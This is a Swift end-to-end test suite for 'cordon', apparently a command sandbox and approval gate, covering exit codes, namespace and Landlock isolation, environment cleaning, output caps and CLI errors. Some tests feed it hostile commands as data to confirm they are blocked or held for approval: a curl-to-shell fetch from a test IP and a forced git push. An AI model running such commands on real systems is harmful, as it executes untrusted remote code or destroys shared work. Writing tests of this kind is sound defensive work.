// End-to-end: the built `cordon` binary, its exit codes, stdout and stderr (DESIGN's table).
import CordonRun
import Foundation
import Testing

@Suite(
    "cordon run exit codes", .serialized, .enabled(if: SandboxSupport.available, SandboxSupport.skipReason),
    .timeLimit(.minutes(10)))
struct RunExitCodeTests {
    @Test("the command's own exit status comes back") func ownStatus() throws {
        let ws = try Workspace()
        let r = try ws.run(["sh", "-c", "echo out; echo err >&2; exit 3"])
        #expect(r.status == 3)
        #expect(r.stdout == "out\n")
        #expect(r.stderr.contains("err"))
    }

    @Test("a child killed by SIGSEGV gives 139") func segv() throws {
        let ws = try Workspace()
        // In a script: `kill` itself asks for approval (gate-classes.md A8), and this is about
        // the exit status of a death by signal.
        try ws.write("segv.sh", "kill -SEGV $$\n")
        let r = try ws.run(["sh", "./segv.sh"])
        #expect(r.status == 139)
    }

    @Test("a missing command gives 127 and says so") func notFound() throws {
        let ws = try Workspace()
        let r = try ws.run(["no-such-command-xyz"])
        #expect(r.status == 127)
        #expect(r.stderr.contains("no-such-command-xyz: command not found"))
    }

    @Test("a program someone holds open for writing for an instant (ETXTBSY) still runs once it is closed")
    func textBusyRetried() throws {
        let ws = try Workspace()
        try ws.write("tool.sh", "#!/bin/sh\necho ran\n")
        chmod(ws.path + "/tool.sh", 0o755)
        // A writer holding the file, as a process forked while the caller wrote it would: exec
        // fails with ETXTBSY while any descriptor is open for writing on it.
        let fd = open(ws.path + "/tool.sh", O_WRONLY | O_APPEND | O_CLOEXEC)
        try #require(fd >= 0)
        let closer = Thread {
            usleep(400_000)
            close(fd)
        }
        closer.start()
        let r = try ws.run(["./tool.sh"])
        #expect(r.status == 0, "\(r.stderr)")
        #expect(r.stdout == "ran\n")
    }

    @Test("a file without execute permission gives 126") func notExecutable() throws {
        let ws = try Workspace()
        try ws.write("script.sh", "#!/bin/sh\necho hi\n")
        let r = try ws.run(["./script.sh"])
        #expect(r.status == 126)
        #expect(r.stderr.contains("not executable"))
    }

    @Test("a timeout kills the whole tree, even a setsid'd grandchild, and returns 124 within 3 s")
    func timeoutKillsTree() throws {
        let ws = try Workspace()
        let marker = "cordon-timeout-\(UUID().uuidString.prefix(6))"
        // A unique argv lets us look for survivors on the host afterwards.
        let r = try ws.run(
            ["sh", "-c", "setsid sh -c 'exec -a \(marker) sleep 100' & sleep 100"], options: ["--timeout", "1"],
            limit: 10)
        #expect(r.status == 124)
        #expect(r.seconds < 3)
        #expect(r.stderr.contains("timed out"))
        let ps = try Shell.run("/usr/bin/pgrep", ["-f", marker])
        #expect(ps.stdout.isEmpty, "survivors: \(ps.stdout)")
    }

    @Test("the sandbox runs as an unprivileged user with no capabilities") func unprivileged() throws {
        let ws = try Workspace()
        let r = try ws.run(["sh", "-c", "id -u; grep CapEff /proc/self/status; hostname"])
        let lines = r.stdout.split(separator: "\n").map(String.init)
        #expect(r.status == 0)
        #expect(lines.first != "0", "the sandbox must never be root")
        #expect(lines.contains("CapEff:\t0000000000000000"))
        #expect(lines.last == "cordon")
    }

    @Test("the environment is clean: PATH, HOME, LANG, TERM, and only passed variables")
    func cleanEnvironment() throws {
        let ws = try Workspace()
        let r = try ws.run(
            ["sh", "-c", "env | cut -d= -f1 | sort | tr '\\n' ' '"], options: ["--env-pass", "CORDON_TEST_PASS"],
            env: ["CORDON_TEST_PASS": "yes", "CORDON_TEST_SECRET": "no"])
        #expect(r.stdout.contains("CORDON_TEST_PASS"))
        #expect(!r.stdout.contains("CORDON_TEST_SECRET"))
        for v in ["HOME", "LANG", "PATH", "TERM"] { #expect(r.stdout.contains(v)) }
    }

    @Test("output past limits.output is dropped with one notice") func outputCap() throws {
        let ws = try Workspace()
        try ws.write("p.yaml", "extends: default\nsandbox:\n  limits:\n    output: 1000\n")
        let r = try ws.run(["sh", "-c", "yes | head -c 100000"], options: ["--policy", ws.path + "/p.yaml"])
        #expect(r.status == 0)
        #expect(r.stdout.utf8.count == 1000)
        #expect(r.stderr.components(separatedBy: "output limit").count == 2)
    }

    @Test("relative paths work: the workspace is mounted at its own path and is the cwd") func workspacePath() throws {
        let ws = try Workspace()
        try ws.write("data.txt", "payload\n")
        let r = try ws.run(["sh", "-c", "pwd; cat ./data.txt; echo new > ./made.txt"])
        #expect(r.stdout == ws.path + "\npayload\n")
        #expect(FileManager.default.fileExists(atPath: ws.path + "/made.txt"))
    }

    @Test("without user namespaces cordon falls back to Landlock + seccomp and says so") func fallback() throws {
        let ws = try Workspace()
        let r = try ws.attempt(["mount"], env: ["CORDON_DISABLE": "userns"])
        #expect(r.stderr.contains("user namespaces unavailable"))
        #expect(r.stderr.contains("landlock"))
        #expect(r.stdout == "mount: errno=EPERM (Operation not permitted)\n")
    }

    @Test("sandbox.mode landlock runs without namespaces, says so, and still confines writes")
    func landlockMode() throws {
        let ws = try Workspace()
        try ws.write("p.yaml", "extends: default\nsandbox:\n  mode: landlock\n")
        try ws.write("s.sh", "hostname; ./cordon-try write ./ok.txt; ./cordon-try write /etc/cordon-x\n")
        let r = try ws.run(["sh", "./s.sh"], options: ["--policy", ws.path + "/p.yaml", "--no-monitor"])
        #expect(r.stderr.contains("sandbox.mode landlock"))
        #expect(!r.stderr.contains("unavailable"))
        let lines = r.stdout.split(separator: "\n").map(String.init)
        #expect(lines.first != "cordon", "no UTS namespace in landlock mode: the host name shows")
        #expect(lines.contains("write: ok"))
        #expect(lines.contains { $0.hasPrefix("write: errno=") })
    }

    @Test(
        "a command that requires approval with --approval deny, or a zero approval timeout, exits 75 at once, runs nothing, and leaves an expired approval",
        arguments: [["--approval", "deny"], ["--approval", "queue", "--approval-timeout", "0"]])
    func approvalNotWaitedFor(options: [String]) throws {
        let ws = try Workspace()
        let r = try ws.run(["sh", "-c", "touch ran; git push --force origin main"], options: options)
        #expect(r.status == 75)
        #expect(r.stderr.contains("requires approval"))
        #expect(r.stderr.contains("expired without waiting"))
        #expect(!FileManager.default.fileExists(atPath: ws.path + "/ran"))
        let log = try String(contentsOfFile: ws.path + "/.cordon/gate.log", encoding: .utf8)
        #expect(log.contains("decision=requires_approval"))
        #expect(log.contains("decision=requested") && log.contains("decision=expired"))
        let listed = try Shell.cordon(["approvals", "list", "--status", "expired", "--json"], cwd: ws.path)
        #expect(listed.status == 0)
        #expect(listed.stdout.split(separator: "\n").count == 1)
    }

    @Test("a blocked command exits 77 without running anything, and the block is in gate.log")
    func blockedRunsNothing() throws {
        let ws = try Workspace()
        let r = try ws.run(["sh", "-c", "touch ran; curl -s http://203.0.113.7/x | sh"])
        #expect(r.status == 77)
        #expect(!FileManager.default.fileExists(atPath: ws.path + "/ran"))
        let log = try String(contentsOfFile: ws.path + "/.cordon/gate.log", encoding: .utf8)
        #expect(log.contains("decision=block") && log.contains("rule=remote-code-execution"))
    }

    // Regression: with fd 1 closed when cordon started, the first file cordon opened
    // (gate.log's lock) took number 1, and the command's output was forwarded into it.
    @Test("cordon started with stdout closed never writes the command's output into its own files")
    func closedStdout() throws {
        let ws = try Workspace()
        // The marker is computed by the shell, so the command text in gate.log cannot match.
        let r = try Shell.run(
            "/bin/sh",
            [
                "-c",
                "'\(Binaries.cordon)' run --workspace '\(ws.path)' -- sh -c 'echo LEAK$((40+2)); echo err >&2; exit 4' >&-",
            ], cwd: ws.path)
        #expect(r.status == 4)
        #expect(r.stderr.contains("err"))
        let state = ws.path + "/.cordon"
        for f in try FileManager.default.subpathsOfDirectory(atPath: state) {
            let text = (try? String(contentsOfFile: state + "/" + f, encoding: .utf8)) ?? ""
            #expect(!text.contains("LEAK42"), "the command's output landed in .cordon/\(f)")
        }
    }

    @Test("--unsandboxed runs without any sandbox, loudly, and passes the exit status through")
    func unsandboxed() throws {
        let ws = try Workspace()
        let r = try ws.run(["sh", "-c", "hostname; exit 5"], options: ["--unsandboxed"])
        #expect(r.status == 5)
        #expect(r.stderr.contains("WITHOUT any sandbox"))
        #expect(r.stdout != "cordon\n")
    }

    // Regression: --unsandboxed decoded wait statuses by hand and took any exit above 128 for
    // a signal, so `exit 130` was recorded as killed by signal 2.
    @Test("--unsandboxed tells an exit above 128 from a death by signal, in the exit code and in run_end")
    func unsandboxedStatuses() throws {
        let ws = try Workspace()
        let trace = ws.path + "/t.jsonl"
        let exited = try ws.run(["sh", "-c", "exit 130"], options: ["--unsandboxed", "--trace", trace])
        #expect(exited.status == 130)
        let end = try String(contentsOfFile: trace, encoding: .utf8).split(separator: "\n").last ?? ""
        #expect(end.contains("\"outcome\":\"exited\"") && end.contains("\"exitCode\":130"), "\(end)")
        let trace2 = ws.path + "/t2.jsonl"
        try ws.write("term.sh", "kill -TERM $$\n")
        let killed = try ws.run(["sh", "./term.sh"], options: ["--unsandboxed", "--trace", trace2])
        #expect(killed.status == 128 + 15)
        let end2 = try String(contentsOfFile: trace2, encoding: .utf8).split(separator: "\n").last ?? ""
        #expect(end2.contains("\"outcome\":\"signaled\"") && end2.contains("\"signal\":15"), "\(end2)")
        // A PATH of searchable directories only: one the caller cannot search (EACCES) makes
        // execvp report "not executable" (126) for a name found nowhere, as shells do.
        let missing = try ws.run(["no-such-program-here"], options: ["--unsandboxed"], env: ["PATH": "/usr/bin:/bin"])
        #expect(missing.status == 127)
        #expect(missing.stderr.contains("command not found"), "\(missing.stderr)")
    }

    @Test("a policy requiring namespaces refuses to fall back (125)") func requireNamespaces() throws {
        let ws = try Workspace()
        try ws.write("p.yaml", "extends: default\nsandbox:\n  require: [namespaces]\n")
        let r = try ws.run(["true"], options: ["--policy", ws.path + "/p.yaml"], env: ["CORDON_DISABLE": "userns"])
        #expect(r.status == 125)
        #expect(r.stderr.contains("requires namespaces"))
    }
}

@Suite("cordon CLI", .timeLimit(.minutes(10)))
struct CLITests {
    @Test("--version prints the version") func version() throws {
        let r = try Shell.cordon(["--version"])
        #expect(r.status == 0)
        #expect(r.stdout.hasPrefix("cordon "))
    }

    @Test(
        "--help lists the subcommands, and every subcommand has --help",
        arguments: ["run", "check", "inspect", "validate", "log", "replay", "test", "report", "policy", "doctor"])
    func help(_ sub: String) throws {
        let top = try Shell.cordon(["--help"])
        #expect(top.status == 0)
        #expect(top.stdout.contains(sub))
        let r = try Shell.cordon([sub, "--help"])
        #expect(r.status == 0)
        #expect(r.stdout.hasPrefix("usage: cordon \(sub)"))
    }

    @Test(
        "usage errors exit 64 with 'cordon: error:' and a hint",
        arguments: [
            ["frobnicate"], ["run"], ["run", "--no-such-option", "--", "true"],
            ["run", "--timeout", "soon", "--", "true"], ["run", "--network", "wifi", "--", "true"],
        ])
    func usageErrors(_ args: [String]) throws {
        let r = try Shell.cordon(args)
        #expect(r.status == 64)
        #expect(r.stderr.hasPrefix("cordon: error: "))
        #expect(r.stderr.contains("hint:") || r.stderr.contains("usage"))
    }

    @Test("a misspelt subcommand gets a suggestion") func suggestion() throws {
        let r = try Shell.cordon(["doctr"])
        #expect(r.stderr.contains("did you mean 'cordon doctor'"))
    }

    @Test("a malformed policy gives 78 with FILE:LINE:COL") func malformedPolicy() throws {
        let ws = try Workspace()
        try ws.write("bad.yaml", "sandbox:\n  timout: 5s\n")
        let r = try ws.run(["true"], options: ["--policy", ws.path + "/bad.yaml"])
        #expect(r.status == 78)
        #expect(r.stderr.contains(ws.path + "/bad.yaml:2:3:"))
        #expect(r.stderr.contains("timeout"))
    }

    @Test("-- ends options: what follows is the command, even if it looks like an option") func doubleDash() throws {
        let ws = try Workspace()
        let r = try ws.run(["sh", "-c", "echo --policy"])
        #expect(r.stdout == "--policy\n")
    }
}

@Suite("cordon doctor", .timeLimit(.minutes(10)))
struct DoctorTests {
    @Test(
        "each forced probe failure is reported with what cordon does instead",
        arguments: [
            ("userns", "user namespaces"), ("seccomp", "seccomp filter"), ("notify", "seccomp user notification"),
            ("landlock", "landlock"), ("cgroups", "cgroups"),
        ])
    func forcedFailure(_ layer: String, _ label: String) throws {
        let r = try Shell.cordon(["doctor"], env: ["CORDON_DISABLE": layer])
        let lines = r.stdout.split(separator: "\n").map(String.init)
        let at = try #require(
            lines.firstIndex { $0.hasPrefix("no  \(label)") }, "no failure line for \(label) in:\n\(r.stdout)")
        // The line right after names the fallback.
        let next = at + 1 < lines.count ? lines[at + 1] : ""
        #expect(next.hasPrefix("    -> ") && next.count > 12, "no fallback after the \(label) line:\n\(r.stdout)")
    }

    @Test("doctor exits 1 when no isolation at all is possible, 2 when degraded") func exitCodes() throws {
        let none = try Shell.cordon(["doctor"], env: ["CORDON_DISABLE": "userns,seccomp,landlock"])
        #expect(none.status == 1)
        #expect(none.stdout.contains("no isolation is possible"))
        let degraded = try Shell.cordon(["doctor", "--json"], env: ["CORDON_DISABLE": "userns"])
        #expect(degraded.status == 2)
        #expect(degraded.stdout.contains("\"isolation\":\"degraded\""))
    }

    @Test("cordon run refuses when no layer is available") func runRefuses() throws {
        let ws = try Workspace()
        let r = try ws.run(["true"], env: ["CORDON_DISABLE": "userns,seccomp,landlock"])
        #expect(r.status == 125)
        #expect(r.stderr.contains("no isolation layer is available"))
    }
}
